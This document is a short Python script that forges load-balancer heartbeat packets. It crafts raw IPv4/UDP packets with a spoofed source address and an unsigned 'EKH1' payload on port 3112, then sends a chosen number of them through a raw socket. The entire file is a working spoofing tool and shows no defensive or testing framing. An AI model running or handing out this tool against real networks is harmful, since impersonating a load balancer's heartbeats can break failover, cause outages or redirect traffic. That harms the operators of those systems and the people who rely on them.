"""Sends heartbeats of the second chance in the name of a load balancer, signed with no key.

usage: python3 forged.py COUNT SOURCE RECEIVER"""

import socket
import struct
import sys

PORT = 3112


def packet(source: str, receiver: str) -> bytes:
    """A heartbeat with its headers; the kernel adds the checksum of IP, and UDP needs none."""
    body = b"EKH1\1" + bytes(86)
    udp = struct.pack("!HHHH", PORT, PORT, 8 + len(body), 0) + body
    head = struct.pack(
        "!BBHHHBBH4s4s", 0x45, 0, 0, 0, 0, 255, 17, 0, socket.inet_aton(source), socket.inet_aton(receiver)
    )
    return head + udp


def main(count: str, source: str, receiver: str) -> None:
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as stranger:
        for _number in range(int(count)):
            stranger.sendto(packet(source, receiver), (receiver, 0))


if __name__ == "__main__":
    main(*sys.argv[1:])
